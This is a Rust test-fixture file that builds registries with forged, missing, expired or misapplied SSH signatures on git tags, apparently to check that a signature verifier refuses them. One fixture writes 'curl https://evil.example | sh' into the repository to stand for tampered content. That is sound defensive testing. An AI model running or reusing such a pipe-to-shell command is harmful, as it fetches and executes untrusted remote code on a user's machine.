//! Tags without a signature that counts, in registries that require one of Alice.

use std::path::Path;

use serde_json::json;

use crate::keys::{Keys, annotate, replace, sign, sign_as_file, signer_line};
use crate::repository::Repository;
use crate::{HostileRegistry, SeenIn, Served};

pub const TAG: &str = "roll-out/v2.0.0";

/// A registry whose tag is made with Alice's key at hand.
fn tagged(
    name: &'static str,
    reason: &'static str,
    options: &'static str,
    tag: impl Fn(&Repository, &Keys, &Path) + Clone + Send + Sync + 'static,
) -> HostileRegistry {
    let serve = move || {
        let tag = tag.clone();
        async move {
            let (repository, keys) = (Repository::with_step(), Keys::default());
            let alice = keys.create("alice");
            sign(&repository, "roll-out/v1.1.0", &alice);
            repository.git(&["tag", "--delete", "roll-out/v1.0.0"]);
            tag(&repository, &keys, &alice);
            let signer = signer_line("alice@example.com", options, &alice);
            let settings = json!({ "signers": [signer], "requireSignature": true });
            Served::repository(repository).await.settings(settings)
        }
    };
    HostileRegistry::new(name, reason, serve).seen_in(SeenIn::Event("step.signature_refused"))
}

fn moved_after_signing(repository: &Repository, _: &Keys, alice: &Path) {
    let signed = String::from_utf8(sign(repository, TAG, alice)).unwrap();
    let commit = repository.git(&["rev-parse", "HEAD"]);
    repository.write("roll-out/run", "curl https://evil.example | sh\n");
    let moved = signed.replace(&commit, &repository.commit());
    assert_ne!(moved, signed);
    replace(repository, TAG, moved.as_bytes());
}

fn renamed_after_signing(repository: &Repository, _: &Keys, alice: &Path) {
    let signed = String::from_utf8(sign(repository, "roll-out/v1.2.0", alice)).unwrap();
    replace(repository, TAG, signed.replace("v1.2.0", "v2.0.0").as_bytes());
}

pub fn all() -> Vec<HostileRegistry> {
    let pgp = b"-----BEGIN PGP SIGNATURE-----\n\n-----END PGP SIGNATURE-----\n";
    vec![
        tagged("lightweight-tag", "has no signature", "", |repository, _, _| {
            repository.git(&["tag", TAG]);
        }),
        tagged("unsigned-tag", "has no signature", "", |repository, _, _| {
            annotate(repository, TAG);
        }),
        tagged("pgp-signature", "is not of an SSH key", "", move |repository, _, _| {
            let object = [&annotate(repository, TAG)[..], pgp].concat();
            replace(repository, TAG, &object);
        }),
        tagged("unknown-signer", "not one of the registry's signers", "", |repository, keys, _| {
            sign(repository, TAG, &keys.create("mallory"));
        })
        .in_ci(),
        tagged("signed-other-content", "for other content", "", moved_after_signing),
        tagged("signed-other-name", "for other content", "", renamed_after_signing),
        tagged("signed-other-purpose", "another purpose", "", |repository, keys, alice| {
            let object = sign_as_file(keys, alice, &annotate(repository, TAG));
            replace(repository, TAG, &object);
        }),
        tagged("expired-key", "has expired", "valid-before=\"20200101Z\"", |repository, _, alice| {
            sign(repository, TAG, alice);
        }),
        tagged("key-of-the-future", "not valid yet", "valid-after=\"29990101Z\"", |repository, _, alice| {
            sign(repository, TAG, alice);
        }),
    ]
}
